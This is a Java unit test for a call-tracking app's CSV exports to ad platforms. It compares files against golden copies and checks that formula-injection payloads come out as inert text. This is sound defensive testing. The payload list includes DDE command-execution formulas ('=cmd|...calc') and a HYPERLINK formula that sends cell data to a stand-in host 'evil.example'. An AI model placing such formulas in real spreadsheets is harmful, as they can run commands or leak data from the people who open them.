package io.calltrail.conversion.export;

import static org.assertj.core.api.Assertions.assertThat;

import io.calltrail.phone.PhoneNumber;
import io.calltrail.property.Property;
import java.io.IOException;
import java.io.StringReader;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.time.ZoneId;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

/**
 * The export files byte for byte against golden files (parameters row, headers, time zone, time format, escaping),
 * and OWASP's CSV-injection payloads made harmless wherever a user's text reaches a cell.
 */
class CsvFilesTest {
    private static final Path GOLDEN = Path.of("src/test/resources/golden/export");
    private static final ZoneId ZONE = ZoneId.of("America/Chicago");

    /** OWASP's examples and the payload lists' favourites: each must reach the spreadsheet as text. */
    static final List<String> PAYLOADS = List.of(
            "=cmd|' /C calc'!A0",
            "@SUM(1+9)*cmd|' /C calc'!A0",
            "=10+20+cmd|' /C calc'!A0",
            "+1+1",
            "-2+3",
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "=1+2\";=1+2",
            "\t=1+2",
            "\r=1+2",
            "\uFF1D1+2");

    private static ExportRow row(long id, String action, String click, String clickType, String value, String consent, Long call) {
        Instant at = Instant.parse("2026-03-08T07:30:00Z").plusSeconds(3600 * id); // across the start of daylight saving time
        return new ExportRow(id, 1, action, "987654321", at, value == null ? null : new BigDecimal(value), "USD", 1, false,
                at.plusSeconds(86_400), click, clickType, call, call == null ? null : at.minusSeconds(95), call == null ? null : "sealed",
                consent != null, false, consent, consent == null ? null : "denied", consent, null, 0.95, 0.9);
    }

    private static final List<ExportRow> ROWS = List.of(
            row(1, "Phone call (60 s)", "Cj0KCQjw-gclid_1", "gclid", "120.00", "granted", 11L),
            row(2, "@SUM(1+9)*cmd|' /C calc'!A0", "braid-2", "gbraid", null, "granted", 12L),
            row(3, "Phone call, \"qualified\"", "braid-3", "wbraid", "75.50", null, 13L),
            row(4, "Lead", "msclk-4", "msclkid", "0.00", "granted", 14L),
            row(5, "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "msclk-5", "msclkid", "1250.00", "granted", null));

    private static PhoneNumber caller(ExportRow row) {
        return new PhoneNumber("+1512555" + String.format(java.util.Locale.ROOT, "%04d", row.callId()));
    }

    @ParameterizedTest
    @EnumSource(value = Destination.class, mode = EnumSource.Mode.MATCH_ALL, names = "^(GOOGLE_ADS|GOOGLE_ENHANCED|MICROSOFT).*")
    void filesMatchTheirGoldenCopiesByteForByte(Destination destination) throws IOException {
        // what the hold-backs let through: Google clicks or Microsoft clicks, callers only with ad_user_data granted
        List<ExportRow> rows = (destination == Destination.GOOGLE_ADS_ADJUSTMENTS
                ? List.of(ROWS.get(0), retracted(ROWS.get(1)), ROWS.get(2)) : ROWS).stream()
                .filter(row -> HoldBacks.verdict(destination, row, Property.ConsentMode.REQUIRED) instanceof HoldBacks.Send)
                .toList();
        assertThat(rows).hasSizeGreaterThanOrEqualTo(2);
        String csv = CsvFiles.render(destination, ZONE, rows, CsvFilesTest::caller);
        Path golden = GOLDEN.resolve(destination + ".csv");
        if ("true".equals(System.getenv("CALLTRAIL_WRITE_GOLDEN"))) {
            Files.writeString(golden, csv, StandardCharsets.UTF_8);
        }
        assertThat(csv.getBytes(StandardCharsets.UTF_8)).as(destination + " against " + golden)
                .isEqualTo(Files.readAllBytes(golden));
        List<CSVRecord> records = CSVFormat.RFC4180.parse(new StringReader(csv)).getRecords();
        assertThat(records).hasSize(2 + rows.size());
        for (CSVRecord record : records.subList(1, records.size())) {
            assertThat(record.size()).isEqualTo(records.get(1).size());
        }
    }

    private static ExportRow retracted(ExportRow row) {
        return new ExportRow(row.conversionId(), row.accountId(), row.actionName(), row.googleConversionId(), row.convertedAt(),
                row.value(), row.currency(), 2, true, row.updatedAt(), row.clickId(), row.clickIdType(), row.callId(),
                row.callStartedAt(), row.callerSealed(), row.hasSession(), row.gpc(), row.adUserData(), row.adPersonalization(),
                row.analyticsStorage(), row.gaClientId(), row.confidence(), row.exportMinConfidence());
    }

    @Test
    void injectionPayloadsInNamesAndClickIdsReachTheSpreadsheetAsText() throws IOException {
        for (String payload : PAYLOADS) {
            ExportRow row = row(1, payload, payload, "gclid", "10.00", "granted", 11L);
            for (Destination destination : List.of(Destination.GOOGLE_ADS_CLICKS, Destination.GOOGLE_ADS_CALLS,
                    Destination.GOOGLE_ENHANCED_LEADS)) {
                String csv = CsvFiles.render(destination, ZONE, List.of(row), CsvFilesTest::caller);
                CSVRecord record = CSVFormat.RFC4180.parse(new StringReader(csv)).getRecords().get(2);
                for (String cell : record) {
                    assertThat(cell).as(destination + " cell from " + payload).doesNotStartWith("=").doesNotStartWith("+1+")
                            .doesNotStartWith("-").doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r")
                            .doesNotStartWith("\uFF1D");
                }
                assertThat(record.toList()).contains("'" + payload);
            }
        }
    }

    @Test
    void e164NumbersStayAsTheyAreInPhoneColumnsOnly() {
        assertThat(CsvCells.phone("+15125550100")).isEqualTo("+15125550100");
        assertThat(CsvCells.phone("+1+1")).isEqualTo("'+1+1");
        assertThat(CsvCells.safe("+15125550100")).isEqualTo("'+15125550100");
        assertThat(CsvCells.safe("plain")).isEqualTo("plain");
    }

    @Test
    void enhancedConversionsHashTheE164NumberWithItsPlus() {
        // sha256("+18005550100"), the number of Google's normalisation example, computed independently
        assertThat(CsvFiles.sha256("+18005550100")).isEqualTo("fb4f73a6ec5fdb7077d564cdd22c3554b43ce49168550c3b12c547b78c517b30");
    }
}
